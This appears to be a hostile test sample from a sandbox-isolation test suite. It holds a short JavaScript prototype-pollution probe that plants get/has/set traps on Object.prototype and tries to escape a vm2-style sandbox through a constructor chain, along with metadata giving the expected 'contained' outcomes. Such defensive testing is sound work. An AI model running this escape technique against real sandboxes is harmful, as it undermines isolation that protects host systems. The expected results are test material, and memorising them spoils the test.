/*---
id: re-object-proto-trap-01-plain
description: "Defines get, set and has on Object.prototype so that any internal Proxy handler object without its own traps inherits guest traps (vm2 ATTACKS category 14), and records the targets they receive."
kind: malicious
category: realm-escape
technique: RE-object-proto-trap
variant: plain
references:
  - "vm2 ATTACKS cat. 14"
  - "CVE-2021-23449"
unproven: "Not proven against a vulnerable target: the sample tests the advisory's technique, not its published trigger. On vm2 3.9.19, the one vulnerable sandbox the suite installs, it gives no oracle evidence."
expect:
  ultra-secure: { outcome: contained }
  high-security: { outcome: contained }
  tenant-isolated: { outcome: contained }
---*/
const targets = [];
Object.prototype.get = function (t, k, r) { targets.push(t); return Reflect.get(t, k, r); };
Object.prototype.has = function (t, k) { targets.push(t); return Reflect.has(t, k); };
Object.prototype.set = function (t, k, v, r) { targets.push(t); return Reflect.set(t, k, v, r); };
console.log('probe');
if (typeof require === 'function') { try { require('moment'); } catch (e) {} }
delete Object.prototype.get; delete Object.prototype.has; delete Object.prototype.set;
for (const t of targets) {
  try { if (t.constructor.constructor('return typeof process')() !== 'undefined') console.log('ESCAPED'); } catch (e) {}
}
return 'targets ' + targets.length;
